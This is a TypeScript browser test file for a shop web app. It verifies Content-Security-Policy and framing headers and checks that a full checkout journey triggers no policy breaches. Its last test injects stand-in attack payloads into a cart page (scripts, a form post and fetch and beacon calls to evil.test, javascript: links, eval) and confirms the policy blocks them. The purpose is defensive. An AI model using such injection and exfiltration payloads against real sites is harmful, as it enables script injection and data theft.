import type { Page, Request } from 'playwright';
import { describe, expect, test } from 'vitest';
import { DESK } from './set-up/browser.ts';
import { FALAFEL, PICKUP } from './set-up/carts.ts';
import { shopWords } from './set-up/shop-words.ts';
import { OPEN_AT, shopWorld } from './set-up/shop-world.ts';

const shop = shopWorld({ store: true, now: OPEN_AT });

const DEMANDED = [
  "default-src 'none'",
  "base-uri 'none'",
  "form-action 'self'",
  "frame-ancestors 'none'",
  "connect-src 'self'",
];

/** What the browser says of each breach: the directive, and what it stopped. */
async function watchPolicy(page: Page): Promise<string[]> {
  const breaches: string[] = [];
  await page.exposeFunction('tellBreach', (breach: string) => breaches.push(breach));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      (window as unknown as { tellBreach(breach: string): void }).tellBreach(
        `${effectiveDirective} ${blockedURI}`,
      );
    });
  });
  return breaches;
}

test('every answer carries the policy, and no page may be framed', async () => {
  const page = await shop.visit('/en/offline', DESK);
  for (const path of [
    '/',
    '/en/shop',
    '/products/101',
    '/cart',
    '/en/login',
    '/callcenter/orders/7',
    '/nothing',
    '/service-worker.js',
  ]) {
    const headers = new Map(await page.evaluate(async (wanted) => [...(await fetch(wanted)).headers], path));
    const policy = headers.get('content-security-policy') ?? '';
    for (const rule of DEMANDED) expect(policy.split('; '), path).toContain(rule);
    expect(policy).not.toMatch(/unsafe-(?:inline|eval|hashes)|(?:script|style)-src[^;]*(?:\*|data:|blob:)/);
    expect(headers.get('x-frame-options')).toBe('DENY');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  }
});

test('a whole journey breaks no rule of the policy, service worker included', async () => {
  const word = shopWords('ar');
  const page = await (await shop.visitor({ ...DESK, serviceWorkers: 'allow', kept: PICKUP })).newPage();
  const breaches = await watchPolicy(page);
  for (const path of [
    '/',
    '/shop',
    '/search',
    '/favourites',
    '/select-branch',
    '/address',
    '/offline',
    '/500',
    '/login',
  ])
    await page.goto(shop.origin + path, { waitUntil: 'load' });
  await page.goto(`${shop.origin}/products/101`);
  await page.locator('[data-submit]').first().click();
  await page.goto(`${shop.origin}/cart`);
  await page.getByRole('link', { name: word('cart:checkout') }).click();
  await page.getByRole('button', { name: word('order:send') }).click();
  await page.getByText(word('placed:thanks')).waitFor();
  expect(await shop.orders()).toHaveLength(1);
  expect(breaches).toEqual([]);
});

describe('code that is injected into a page', () => {
  test('cannot run, style, frame, post or send requests', async () => {
    const page = await shop.visit('/en/cart', { ...DESK, kept: FALAFEL });
    const foreign: string[] = [];
    // A request that the policy stops fails before it goes out.
    const note = (request: Request) => {
      if (!request.url().startsWith(shop.origin) && request.failure()?.errorText !== 'csp')
        foreign.push(`${request.url()} ${request.failure()?.errorText}`);
    };
    page.on('requestfinished', note);
    page.on('requestfailed', note);
    const stopped = await page.evaluate(async () => {
      const found: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        found.push(effectiveDirective),
      );
      const add = (name: string, attributes: Record<string, string>, text = '') => {
        const element = document.createElement(name);
        for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
        element.textContent = text;
        document.body.append(element);
        return element;
      };
      add('script', {}, 'window.__pwned = 1');
      add('script', { src: 'https://evil.test/x.js' });
      add('script', { src: 'data:text/javascript,window.__pwned=1' });
      add('style', {}, 'body{display:none}');
      add('link', { rel: 'stylesheet', href: 'https://evil.test/x.css' });
      add('p', { style: 'position:fixed' });
      add('button', { onclick: 'window.__pwned = 1' }).click();
      add('a', { href: 'javascript:window.__pwned=1' }).click();
      add('img', { src: 'https://evil.test/x.png' });
      add('iframe', { src: 'https://evil.test/' });
      add('object', { data: 'https://evil.test/' });
      add('base', { href: 'https://evil.test/' });
      const form = add('form', { action: 'https://evil.test/', method: 'post' });
      if (form instanceof HTMLFormElement) form.submit();
      await fetch('https://evil.test/cart').catch(() => found.push('fetch failed'));
      navigator.sendBeacon('https://evil.test/beacon', 'x');
      // What the test's own connection calls may evaluate; what a timer calls may not.
      for (let turn = 0; turn < 50 && !found.includes('form-action'); turn += 1)
        await new Promise((resolve) => setTimeout(resolve, 100));
      try {
        // biome-ignore lint/complexity/useLiteralKeys: called by a name that no check looks for
        (globalThis as unknown as Record<string, (code: string) => void>)['eval']?.('window.__pwned = 1');
      } catch {
        found.push('eval');
      }
      return {
        found: [...new Set(found)].sort(),
        isPwned: '__pwned' in window,
        isShown: getComputedStyle(document.body).display,
      };
    });
    expect(stopped.isPwned).toBe(false);
    expect(stopped.isShown).not.toBe('none');
    expect(foreign).toEqual([]);
    for (const directive of [
      'script-src-elem',
      'script-src-attr',
      'style-src-elem',
      'style-src-attr',
      'img-src',
      'frame-src',
      'object-src',
      'base-uri',
      'form-action',
      'connect-src',
      'eval',
    ])
      expect(stopped.found).toContain(directive);
    expect(page.url()).toBe(`${shop.origin}/en/cart`);
  });
});
